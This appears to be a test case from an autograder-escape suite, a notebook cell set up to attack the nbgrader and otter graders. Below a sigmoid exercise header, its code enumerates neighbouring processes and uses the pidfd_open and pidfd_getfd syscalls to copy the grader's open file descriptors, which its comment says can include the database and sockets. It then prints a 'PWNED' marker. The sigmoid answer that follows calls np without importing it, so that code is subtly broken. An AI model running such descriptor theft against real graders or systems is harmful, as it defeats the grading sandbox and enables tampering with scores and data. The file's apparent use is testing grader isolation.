# /// case
# about = "right answers, and pidfd_getfd on relatives and neighbours for descriptors of theirs"
# kind = "escape"
# promise = 2
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# the grader's open database or sockets are as good as its files
import ctypes
import os

def _others():
    """Processes that are not this one: as /proc lists them, or guessed around our own numbers."""
    try:
        seen = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    except OSError:
        seen = {near + step for near in (os.getpid(), os.getppid()) for step in range(-200, 200)}
    return {pid for pid in seen | {os.getppid()} if pid > 0} - {1, os.getpid()}

_libc = ctypes.CDLL(None, use_errno=True)

def _stolen(pid):
    handle = _libc.syscall(434, pid, 0)  # pidfd_open
    if handle < 0:
        return False
    try:
        for number in range(32):
            taken = _libc.syscall(438, handle, number, 0)  # pidfd_getfd
            if taken >= 0:
                os.close(taken)
                return True
    finally:
        os.close(handle)
    return False

if any(map(_stolen, _others())):
    print(":".join(["PWNED", "attack/steals_descriptors"]))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
